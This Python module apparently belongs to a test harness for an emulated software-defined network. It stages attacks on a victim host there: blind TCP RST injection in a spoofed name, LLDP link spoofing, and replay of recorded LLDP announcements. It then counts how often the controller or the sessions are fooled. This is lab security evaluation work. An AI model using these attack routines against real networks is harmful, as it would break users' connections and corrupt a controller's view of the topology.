"""Attacks on what carries sessions: their TCP connections, and the announcements of fibres."""

import re
from collections.abc import Iterator
from contextlib import contextmanager

from evidence.attacks.conduct import (
    ATTACKER,
    FRAMES,
    POSED,
    VICTIM,
    facts_of,
    sent_count,
    settled,
)
from hosts.client import blocking_session
from hosts.stack_socket import BYTES
from qmn.timeouts import ATTACK_TIMEOUT_S
from topologies.networks.network import Network
from topologies.system.processes.programs import NetworkError
from wire.metadata.header import METADATA_PORT

GUESSES = 20  # RSTs on each connection: of 2^32 places in its sequence, blind
LISTENING = 7  # port of bob's application


def blind_rst(network: Network, sessions: int) -> int:
    """End sessions of alice by RSTs in her name at guessed places; return how many that has ended.

    charlie knows the ports of her connections, which a patient attacker tries one after the
    other.
    """
    before = ended(network)
    for _ in range(sessions):
        with session(network):
            reset(network, opener_port(network))
            settled(network, lambda: len(ended(network)))
    return len(ended(network) - before)


def reset(network: Network, port: int) -> None:
    attacker, victim, posed = (network.host(name) for name in (ATTACKER, VICTIM, POSED))
    arguments = [str(attacker.defaultIntf()), str(GUESSES), victim.MAC(), posed.IP(), victim.IP()]
    run_frames(network, "resets", *arguments, str(port), count=GUESSES)


def ended(network: Network) -> set[str]:
    facts = facts_of(network, "torn_down")
    return {str(fact["session"]) for fact in facts if fact["detail"] == "RST"}


@contextmanager
def session(network: Network) -> Iterator[None]:
    """Keep a session open, from alice to bob, over which a byte has gone."""
    ends, stacks = (POSED, VICTIM), network.runtime.socket
    with blocking_session(stacks, BYTES, ends, LISTENING, limit_s=ATTACK_TIMEOUT_S) as opened:
        opened.results()
        opened.sendall(b"x")
        yield


def opener_port(network: Network) -> int:
    command = f"ss -Htn state established dst {network.host(VICTIM).IP()} dport = :{METADATA_PORT}"
    output = network.host(POSED).cmd(command)
    match = re.search(r"\d:(\d+)\s", output)
    if match is None:
        raise NetworkError(f"{POSED} has no connection to {VICTIM}: {output.strip()}")
    return int(match[1])


def lldp_spoofing(network: Network, announcements: int) -> int:
    """Announce fibres as bob's on charlie's; return how many of them the controller believes."""
    before, victim = lies(network), network.host(VICTIM)
    arguments = [fiber_of(network), str(announcements), VICTIM, victim.IP()]
    run_frames(network, "announcements", *arguments, count=announcements)
    return settled(network, lambda: lies(network)) - before


def replay(network: Network, frames: int) -> int:
    """Repeat, on charlie's fibre, what bob has announced; return how often he is believed there.

    Somebody who has tapped bob's fibres has given charlie an announcement of each.
    """
    before = lies(network)
    heard = [recorded(network, port) for port in fibers_of(network, VICTIM)]
    run_frames(network, "repeated", fiber_of(network), str(frames), *heard, count=frames)
    return settled(network, lambda: lies(network)) - before


def recorded(network: Network, port: str) -> str:
    with network.host(VICTIM).popen([*FRAMES, "record", port], text=True) as program:
        output, errors = program.communicate(timeout=ATTACK_TIMEOUT_S)
    match = re.search(r"frame=([0-9a-f]+)", output)
    if match is None:
        raise NetworkError(f"{VICTIM} announces nothing at {port}: {output}{errors}")
    return match[1]


def fibers_of(network: Network, host: str) -> list[str]:
    ends = (end for fiber in network.runtime.fibers for end in (fiber.a, fiber.b))
    return sorted(end.port for end in ends if end.node == host)


def fiber_of(network: Network) -> str:
    return fibers_of(network, ATTACKER)[0]


def lies(network: Network) -> int:
    ports = places(network)
    facts = [fact for fact in facts_of(network, "fiber") if fact["host"] == VICTIM]
    return sum((fact["dpid"], fact["at"]) not in ports for fact in facts)


def places(network: Network) -> set[tuple[int, int]]:
    ids, ports = network.runtime.datapath_ids, set()
    for fiber in network.runtime.fibers:
        for near, far in ((fiber.a, fiber.b), (fiber.b, fiber.a)):
            if near.node == VICTIM and far.node in ids:
                ports.add((ids[far.node], int(far.port)))
    return ports


def run_frames(network: Network, what: str, *words: str, count: int) -> None:
    with network.host(ATTACKER).popen([*FRAMES, what, *words], text=True) as sender:
        output, errors = sender.communicate(timeout=ATTACK_TIMEOUT_S)
    if sent_count(output + errors) != count:
        raise NetworkError(f"{ATTACKER} could not send {count} frames: {output}{errors}")
